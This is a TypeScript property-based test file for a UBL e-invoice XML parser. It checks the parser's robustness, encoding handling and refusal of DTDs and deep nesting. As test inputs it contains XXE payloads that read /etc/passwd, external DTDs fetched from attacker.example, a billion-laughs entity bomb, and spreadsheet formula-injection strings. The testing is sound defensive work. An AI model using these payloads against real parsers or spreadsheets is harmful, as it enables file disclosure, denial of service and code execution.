import fc from 'fast-check';
import { loadCatalogues } from '../common/i18n/messages';
import { templatesDir } from '../common/web/view-engine';
import { describeFault } from './intake-fault';
import { MAX_AMOUNT_ORE, type ParseResult } from './parsed-invoice';
import { parseUblInvoice, UBL_DEFAULT_MAX_DEPTH } from './ubl-invoice.parser';

// Hostile input for the UBL parser: it never throws (arbitrary text, arbitrary bytes, invalid UTF-8, mangled
// invoices), never reads a DTD or expands an entity, refuses deep nesting, and answers amounts in range.

async function checked<Ts extends [unknown, ...unknown[]]>(name: string, property: fc.IProperty<Ts>, runs: number): Promise<void> {
  const details = fc.check(property, { numRuns: runs });
  process.stdout.write(`property "${name}": ${details.numRuns} cases tried\n`);
  if (details.failed) throw new Error(fc.defaultReportMessage(details));
}

const NS =
  'xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" ' +
  'xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2" ' +
  'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"';

const escapeXml = (s: string): string => s.replace(/[&<>"']/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&apos;' })[c] as string);

/** Every string the parser answers, to check that nothing grew beyond the input. */
function strings(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(strings);
  if (value !== null && typeof value === 'object') return Object.values(value).flatMap(strings);
  return [];
}

const catalogues = loadCatalogues(templatesDir());

function expectWellFormed(result: ParseResult, inputLength: number): void {
  if (!result.ok) {
    expect(result.faults.length).toBeGreaterThan(0);
    for (const fault of result.faults) {
      const error = { ...fault, message: describeFault(catalogues, 'en', fault) };
      expect(typeof error.field).toBe('string');
      expect(typeof error.rule).toBe('string');
      expect(typeof error.message).toBe('string');
    }
    return;
  }
  const { invoice } = result;
  // no entity expansion: nothing read can be longer than what was sent
  for (const s of strings(invoice)) expect(s.length).toBeLessThanOrEqual(inputLength);
  invoice.lines.forEach((line) => {
    expect(Number.isSafeInteger(line.rateOre) && Math.abs(line.rateOre) <= MAX_AMOUNT_ORE).toBe(true);
    expect(Number.isSafeInteger(line.amountOre) && Math.abs(line.amountOre) <= MAX_AMOUNT_ORE).toBe(true);
    expect(line.minutes === null || Number.isInteger(line.minutes)).toBe(true);
  });
  if (invoice.totals) {
    for (const amount of [invoice.totals.netOre, invoice.totals.vatOre, invoice.totals.totalOre]) expect(Number.isSafeInteger(amount) && Math.abs(amount) <= MAX_AMOUNT_ORE).toBe(true);
  }
}

// ---- arbitraries ----

const decimal = fc.oneof(
  { weight: 4, arbitrary: fc.tuple(fc.integer({ min: -2000, max: 100_000 }), fc.nat({ max: 9999 }), fc.integer({ min: 0, max: 4 })).map(([whole, fraction, scale]) => (scale === 0 ? String(whole) : `${whole}.${String(fraction).padStart(4, '0').slice(0, scale)}`)) },
  {
    weight: 2,
    arbitrary: fc.constantFrom('0', '-0', '', ' 1.5 ', '1e3', '1,5', 'NaN', '90071992547409.91', '9007199254740991', '99999999999999999999999999999.99', '-99999999999999999999', '0.0001', '0.00000000000000000000000000001', '1.'),
  },
);
const unitCode = fc.constantFrom('HUR', 'MIN', 'hur', 'min', 'C62', 'EA', 'DAY', '', 'H87', 'SEC', 'HUR ', '&amp;');
const date = fc.oneof(
  fc.date({ min: new Date('1000-01-01T00:00:00Z'), max: new Date('9999-12-31T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)),
  fc.constantFrom('2026-02-30', '2026-13-01', '26-03-02', '', '2026-03-02T10:00:00'),
);
const text = fc.oneof(
  fc.string({ maxLength: 30 }),
  fc.constantFrom('=HYPERLINK("http://x")', "=cmd|' /C calc'!A0", '&lol9;', '&xxe;', '&#0;', '&#x110000;', '&#65;', ']]>', 'x'.repeat(600)),
);
const reference = fc.oneof(fc.constantFrom('MS-2026-000123', 'MS-0000-000000', 'MS-2026-12345', ''), text);

const line = fc.record({
  quantity: decimal,
  unit: unitCode,
  amount: decimal,
  price: decimal,
  base: fc.option(decimal, { nil: null }),
  date,
  reference,
  name: text,
  raw: fc.boolean(),
});
const invoice = fc.record({
  kind: fc.constantFrom('Invoice', 'CreditNote'),
  id: text,
  issueDate: date,
  currency: fc.constantFrom('DKK', 'EUR', ''),
  customization: fc.constantFrom('urn:cen.eu:en16931:2017#compliant#urn:fdc:peppol.eu:2017:poacc:billing:3.0', 'OIOUBL-2.1', ''),
  cvr: fc.constantFrom('DK12345674', '12345674', 'DK1234', '', 'SE123'),
  orderReference: reference,
  lines: fc.array(line, { minLength: 0, maxLength: 4 }),
  vat: decimal,
  net: decimal,
  total: decimal,
});

type InvoiceCase = typeof invoice extends fc.Arbitrary<infer T> ? T : never;

function renderInvoice(inv: InvoiceCase): string {
  const kind = inv.kind;
  const quantity = kind === 'Invoice' ? 'InvoicedQuantity' : 'CreditedQuantity';
  const value = (s: string, raw = false) => (raw ? s : escapeXml(s));
  const lines = inv.lines
    .map(
      (l, i) => `<cac:${kind}Line><cbc:ID>${i + 1}</cbc:ID>
  <cbc:${quantity} unitCode="${escapeXml(l.unit)}">${value(l.quantity, l.raw)}</cbc:${quantity}>
  <cbc:LineExtensionAmount currencyID="DKK">${value(l.amount, l.raw)}</cbc:LineExtensionAmount>
  <cac:InvoicePeriod><cbc:StartDate>${value(l.date)}</cbc:StartDate></cac:InvoicePeriod>
  <cac:OrderLineReference><cbc:LineID>${value(l.reference, l.raw)}</cbc:LineID></cac:OrderLineReference>
  <cac:Item><cbc:Name>${value(l.name, l.raw)}</cbc:Name></cac:Item>
  <cac:Price><cbc:PriceAmount currencyID="DKK">${value(l.price)}</cbc:PriceAmount>${l.base === null ? '' : `<cbc:BaseQuantity>${value(l.base)}</cbc:BaseQuantity>`}</cac:Price>
</cac:${kind}Line>`,
    )
    .join('\n');
  return `<?xml version="1.0" encoding="UTF-8"?>
<${kind} ${NS}>
<cbc:CustomizationID>${inv.customization}</cbc:CustomizationID>
<cbc:ID>${escapeXml(inv.id)}</cbc:ID>
<cbc:IssueDate>${escapeXml(inv.issueDate)}</cbc:IssueDate>
<cbc:DocumentCurrencyCode>${inv.currency}</cbc:DocumentCurrencyCode>
<cac:OrderReference><cbc:ID>${escapeXml(inv.orderReference)}</cbc:ID></cac:OrderReference>
<cac:AccountingSupplierParty><cac:Party><cbc:EndpointID schemeID="0184">${inv.cvr}</cbc:EndpointID></cac:Party></cac:AccountingSupplierParty>
<cac:TaxTotal><cbc:TaxAmount currencyID="DKK">${escapeXml(inv.vat)}</cbc:TaxAmount></cac:TaxTotal>
<cac:LegalMonetaryTotal>
<cbc:LineExtensionAmount currencyID="DKK">${escapeXml(inv.net)}</cbc:LineExtensionAmount>
<cbc:TaxExclusiveAmount currencyID="DKK">${escapeXml(inv.net)}</cbc:TaxExclusiveAmount>
<cbc:TaxInclusiveAmount currencyID="DKK">${escapeXml(inv.total)}</cbc:TaxInclusiveAmount>
</cac:LegalMonetaryTotal>
${lines}
</${kind}>`;
}

const dtd = fc.constantFrom(
  '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">',
  '<!doctype foo [<!entity xxe SYSTEM "file:///etc/passwd">]>',
  '<! DOCTYPE x>',
  '<!ENTITY % p SYSTEM "http://attacker.example/p.dtd">',
  '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>',
  '<!DoCtYpE\n\tInvoice>',
);

describe('UBL invoice parser properties', () => {
  it('never throws on arbitrary text or bytes', async () => {
    const xmlish = fc
      .array(fc.oneof(fc.constantFrom('<', '>', '</', '/>', '<?', '?>', '<!--', '-->', '<![CDATA[', ']]>', '&', ';', '"', "'", '=', 'Invoice', 'cbc:ID', 'xmlns:cbc', ' ', '\n', '&#0;'), fc.string({ maxLength: 5 })), { maxLength: 60 })
      .map((parts) => parts.join(''));
    await checked(
      'ubl arbitrary text and bytes',
      fc.property(fc.oneof(fc.string({ maxLength: 400, unit: 'binary' }), xmlish, fc.uint8Array({ maxLength: 400 })), (input) => {
        expectWellFormed(parseUblInvoice(input), typeof input === 'string' ? input.length : input.byteLength);
      }),
      2000,
    );
  });

  it('never throws on mangled invoices (random units, quantities, prices, dates, references) and answers amounts in range', async () => {
    await checked(
      'ubl mangled invoices',
      fc.property(invoice, (inv) => {
        const xml = renderInvoice(inv);
        expectWellFormed(parseUblInvoice(xml), xml.length);
      }),
      1500,
    );
  });

  it('never throws on invalid UTF-8 bytes spliced into an invoice', async () => {
    const badBytes = fc.oneof(
      fc.uint8Array({ minLength: 1, maxLength: 6 }).map((b) => b.map((x) => x | 0x80)),
      fc.constantFrom(Uint8Array.of(0xc0, 0x80), Uint8Array.of(0xed, 0xa0, 0x80), Uint8Array.of(0xff, 0xfe), Uint8Array.of(0xef, 0xbb, 0xbf), Uint8Array.of(0xf4, 0x90, 0x80, 0x80), Uint8Array.of(0x00)),
    );
    await checked(
      'ubl invalid utf-8',
      fc.property(invoice, fc.array(fc.tuple(fc.double({ min: 0, max: 1, noNaN: true }), badBytes), { minLength: 1, maxLength: 4 }), (inv, splices) => {
        let bytes = Buffer.from(renderInvoice(inv), 'utf8');
        for (const [at, bad] of splices) {
          const i = Math.floor(at * bytes.length);
          bytes = Buffer.concat([bytes.subarray(0, i), Buffer.from(bad), bytes.subarray(i)]);
        }
        expectWellFormed(parseUblInvoice(bytes), bytes.length);
      }),
      500,
    );
  });

  it('refuses every document with a DTD or entity declaration, wherever it stands (XXE, billion laughs)', async () => {
    await checked(
      'ubl dtd refused',
      fc.property(invoice, dtd, fc.double({ min: 0, max: 1, noNaN: true }), fc.boolean(), (inv, declaration, where, asBytes) => {
        const xml = renderInvoice(inv);
        const afterProlog = xml.indexOf('\n') + 1;
        const at = where < 0.5 ? afterProlog : Math.floor(where * xml.length);
        const hostile = xml.slice(0, at) + declaration + xml.slice(at);
        const result = parseUblInvoice(asBytes ? Buffer.from(`\ufeff${hostile}`, 'utf8') : hostile);
        expect(result.ok).toBe(false);
        if (!result.ok) expect(result.faults.map((e) => e.rule)).toEqual(['dtd_forbidden']);
      }),
      500,
    );
  });

  it('refuses nesting deeper than the limit and reads anything up to it', async () => {
    await checked(
      'ubl nesting depth',
      fc.property(fc.oneof(fc.integer({ min: 1, max: 150 }), fc.integer({ min: 1000, max: 20_000 })), fc.constantFrom('a', 'cbc:Note', 'x y="/>"'), fc.boolean(), (depth, tag, comments) => {
        const name = tag.split(' ')[0];
        const open = `<${tag}>${comments ? '<!-- <b> -->' : ''}`;
        const xml = `<Invoice ${NS}>${open.repeat(depth)}${`</${name}>`.repeat(depth)}</Invoice>`;
        const result = parseUblInvoice(xml);
        expectWellFormed(result, xml.length);
        const refused = !result.ok && result.faults.some((e) => e.rule === 'max_depth');
        expect(refused).toBe(depth + 1 > UBL_DEFAULT_MAX_DEPTH);
      }),
      300,
    );
  });
});

/** A character an XML document carries as it is: no C0 or C1 control, no noncharacter. */
function xmlCarries(c: string): boolean {
  const code = c.codePointAt(0) as number;
  return code >= 0x20 && (code < 0x7f || code > 0x9f) && code !== 0xfffe && code !== 0xffff;
}

describe('UBL invoice parser: encodings and namespaces', () => {
  const INVOICE_NS = 'urn:oasis:names:specification:ubl:schema:xsd:Invoice-2';
  const document = (name: string, encoding: string, namespace = INVOICE_NS) => `<?xml version="1.0" encoding="${encoding}"?>
<Invoice xmlns="${escapeXml(namespace)}" xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
<cbc:ID>F-1</cbc:ID><cbc:IssueDate>2026-03-31</cbc:IssueDate><cbc:DocumentCurrencyCode>DKK</cbc:DocumentCurrencyCode>
<cac:InvoiceLine><cbc:ID>1</cbc:ID><cbc:InvoicedQuantity unitCode="HUR">1</cbc:InvoicedQuantity><cbc:LineExtensionAmount currencyID="DKK">250.00</cbc:LineExtensionAmount>
<cac:InvoicePeriod><cbc:StartDate>2026-03-02</cbc:StartDate></cac:InvoicePeriod><cac:OrderLineReference><cbc:LineID>MS-2026-000123</cbc:LineID></cac:OrderLineReference>
<cac:Item><cbc:Name>${escapeXml(name)}</cbc:Name></cac:Item><cac:Price><cbc:PriceAmount currencyID="DKK">250.00</cbc:PriceAmount></cac:Price></cac:InvoiceLine>
</Invoice>`;
  // Printable Latin-1 (no C0 or C1 controls), the text both ISO-8859-1 and windows-1252 write in the same bytes; no blanks at the ends, which XML readers trim.
  const latin1Char = fc.oneof(fc.integer({ min: 0x21, max: 0x7e }), fc.integer({ min: 0xa1, max: 0xff }), fc.constant(0x20)).map((code) => String.fromCharCode(code));
  const latin1Text = fc.array(latin1Char, { minLength: 1, maxLength: 40 }).map((chars) => chars.join('')).filter((s) => s === s.trim() && s.length > 0);

  it('reads every printable Latin-1 text back as written, in the encoding the document declares', async () => {
    await checked(
      'ubl declared encodings',
      fc.property(latin1Text, fc.constantFrom('ISO-8859-1', 'iso-8859-1', 'latin1', 'Latin-1', 'windows-1252', 'cp1252', 'UTF-8', 'utf-8'), fc.boolean(), (name, encoding, bom) => {
        const utf8 = encoding.toLowerCase() === 'utf-8';
        const body = Buffer.from(document(name, encoding), utf8 ? 'utf8' : 'latin1');
        const result = parseUblInvoice(bom && utf8 ? Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), body]) : body);
        expect(result.ok && result.invoice.lines[0].description).toBe(name);
      }),
      400,
    );
  });

  it('reads a UTF-8 document with a byte order mark as UTF-8, whatever it declares', async () => {
    await checked(
      'ubl byte order mark wins',
      fc.property(fc.string({ minLength: 1, maxLength: 30, unit: 'grapheme' }).filter((s) => s === s.trim() && [...s].every(xmlCarries)), fc.constantFrom('ISO-8859-1', 'windows-1252', 'UTF-8', 'x-unknown'), (name, encoding) => {
        const result = parseUblInvoice(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(document(name, encoding), 'utf8')]));
        expect(result.ok && result.invoice.lines[0].description).toBe(name);
      }),
      300,
    );
  });

  it('reads no document whose root is outside the UBL Invoice namespace', async () => {
    await checked(
      'ubl root namespace',
      fc.property(fc.oneof(fc.string({ maxLength: 80 }), fc.webUrl(), fc.constantFrom(` ${INVOICE_NS}`, `${INVOICE_NS} `, INVOICE_NS.toUpperCase(), INVOICE_NS.replace('-2', '-3'), 'urn:oasis:names:specification:ubl:schema:xsd:CreditNote-2', 'urn:oasis:names:specification:ubl:schema:xsd:Order-2')), (namespace) => {
        fc.pre(namespace !== INVOICE_NS);
        const result = parseUblInvoice(document('Mentorstøtte', 'UTF-8', namespace));
        expect(result.ok ? [] : result.faults.map((e) => e.rule)).toEqual(['document_type']);
      }),
      300,
    );
  });
});
